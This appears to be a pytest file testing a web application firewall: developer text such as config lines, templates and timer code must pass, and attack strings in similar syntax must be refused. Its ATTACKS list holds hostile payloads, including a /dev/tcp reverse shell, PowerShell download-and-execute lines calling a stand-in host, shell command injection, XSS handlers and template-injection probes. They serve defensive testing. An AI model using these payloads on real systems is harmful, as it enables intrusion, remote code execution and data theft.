"""WAF, developers' text (issue 11's false-positive classes: configuration
files, manuals' option tables, template and script code pasted into a
note) through the real edge (shipped config, bans off). Each look-alike
is a grammar a shell, a browser or a template engine reads differently
from the attack it resembles; the attack written in the same syntax is
still refused by the rule that read the look-alike before.

- an option named like a builtin, "--exec <cmd>", is no "exec" builtin
  with a redirection (rce-shell-syntax);
- "PowerShell" last in a sentence or as a quoted string is a name, not
  the interpreter run; after a separator and given a command to run
  ("& powershell iwr ..") it is (rce-windows);
- "name = value", "CC ?= clang", "x == 2": an assignment or comparison,
  not a command with "=" for its argument (rce-command);
- "Then", "Else", "Do" after a line break open no compound command when
  no "if"/"for"/"while" came before (a shell rejects them: rce-command);
- "online = true" and "OnCalendar=*-*-*" run no script (xss-handler);
- an arrow function given to a timer is the page's own code (xss-dom);
- a filter by name ("{{ title|escape }}"), a block's close ("{{/if}}"),
  Go's "{{ range .Items }}" and an extends/include of a relative template
  name compute nothing (ssti);
- a program's bin directory or an application's directory under /etc
  after "=" among other words is a configuration line
  ("ExecStart=/usr/bin/python3 -m app", "EnvironmentFile=/etc/app/env"),
  as one token a setting ("SHELL=/bin/sh", "file=/etc/app/x.yml"), and a
  file right in /etc is the OS's (lfi-system-path).
"""
import pytest

from wafkit import (WafEdge, assert_no_lua_errors, assert_text_passes,
                    assert_text_refused_by, only_classes_config, start_class_edges,
                    waf_config)

CONF = waf_config()
# the rule classes the attacks' rules belong to: an edge each, where only
# that class runs (another class refusing first must not hide a miss)
CLASSES = ("rce", "xss", "ssti", "lfi")

LOOKALIKES = [
    "| `--exec <cmd>` | run a command for each file |",
    "Use `--exec <file>` to pick the hook",
    "Open a terminal in PowerShell",
    '{"shell": "pwsh", "font": "Cascadia Code"}',
    '"defaultProfile": "PowerShell",',
    'python = "^3.11"',
    "CC ?= clang\nCFLAGS += -O2",
    "ls == 2",
    'sync = true\nworkers = 4',
    "Step 1: clone it.\nThen open `config.yml` and edit it.",
    "Install the tools.\nElse use `make clean` first.",
    "online = true",
    "[Timer]\nOnCalendar=*-*-* 02:00:00\nPersistent=true",
    "setTimeout(() => save(), 500);",
    "const t = setInterval(() => tick(Date.now()), 1000);",
    "{{ title|escape }}",
    "{{#each posts}}<li>{{ title }}</li>{{/each}}",
    "{{ items|length }} items",
    '{% extends "layouts/app.html" %}',
    "{% include 'partials/nav.html' %}",
    "{{ range .Posts }}<h2>{{ .Title }}</h2>{{ end }}",
    "[Service]\nExecStart=/usr/bin/python3 -m notes.app\nRestart=always",
    "PATH=/usr/local/bin:/usr/bin and SHELL=/bin/zsh on my laptop",
    "[Service]\nEnvironmentFile=/etc/notes/env\nUser=notes",
    'level=warn msg="reload" file=/etc/notes/notes.yml took=3ms',
]

# (value, the rule that must report it)
ATTACKS = [
    ("exec 5<>/dev/tcp/10.0.0.1/4444", "rce-shell-syntax"),
    ("; powershell -enc SQBFAFgA", "rce-command"),
    ("curl http://h.example/x.ps1 | powershell", "rce-windows"),
    ('"powershell" -c whoami', "rce-windows"),
    ('x & powershell "iex(iwr http://h.example/x)"', "rce-command"),
    ("& powershell iwr http://h.example/u -OutFile $env:TEMP\\u.exe", "rce-windows"),
    ("x | pwsh iex $env:P", "rce-windows"),
    ("; python -c 'import os'", "rce-command"),
    ("x; ls = /etc", "rce-command"),
    (";if true; then id; fi", "rce-command"),
    ("x\nfor i in 1; do id; done", "rce-command"),
    ('" onfocus=alert(1) autofocus="', "xss-handler"),
    ("onerror=KCF", "xss-handler"),
    ("x onload= ", "xss-handler"),
    ("onmouseover = alert(1)", "xss-handler"),
    ("setTimeout('alert(1)')", "xss-dom"),
    ("setInterval((alert),1)", "xss-dom"),
    ("{{ 7*7 }}", "ssti"),
    ("{{ x|attr('__class__') }}", "ssti"),
    ("{{ request|attr('application') }}", "ssti"),
    ('{% include "../../etc/passwd" %}', "ssti"),
    ('{{ range.constructor("return 1")() }}', "ssti"),
    ("{% import os %}", "ssti"),
    ("SHELL=/bin/sh", "lfi-system-path"),
    ("a=1 > /etc/cron.d/job", "lfi-system-path"),
    ("file=/etc/notes/notes.yml", "lfi-system-path"),
    ("see x=/etc/hosts now", "lfi-system-path"),
]


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-devtext"), CONF).start()
    yield e
    e.stop()


@pytest.fixture(scope="module")
def class_edges(tmp_path_factory):
    edges = start_class_edges(tmp_path_factory, "waf-devtext", CLASSES)
    # rce-windows: a PowerShell line is a command line too, which the
    # command rules read first
    conf = only_classes_config("rce")
    conf["waf"]["disabled_rules"] += ["rce-command", "rce-command-line", "rce-command-start"]
    edges["rce-windows"] = WafEdge(tmp_path_factory.mktemp("waf-devtext-win"), conf).start()
    yield edges
    for e in edges.values():
        e.stop()


@pytest.fixture(autouse=True)
def no_lua_errors(edge, class_edges):
    yield
    assert_no_lua_errors(edge, *class_edges.values())


@pytest.mark.parametrize("how", ["note", "query"])
@pytest.mark.parametrize("value", LOOKALIKES, ids=range(len(LOOKALIKES)))
def test_developers_text_passes(edge, value, how):
    assert_text_passes(edge, value, how)


@pytest.mark.parametrize("how", ["note", "query"])
@pytest.mark.parametrize("value,rule", ATTACKS, ids=range(len(ATTACKS)))
def test_the_same_syntax_as_an_attack_is_refused(edge, class_edges, value, rule, how):
    alone = class_edges.get(rule) or class_edges[rule.split("-")[0]]
    assert_text_refused_by(edge, alone, value, rule, how)
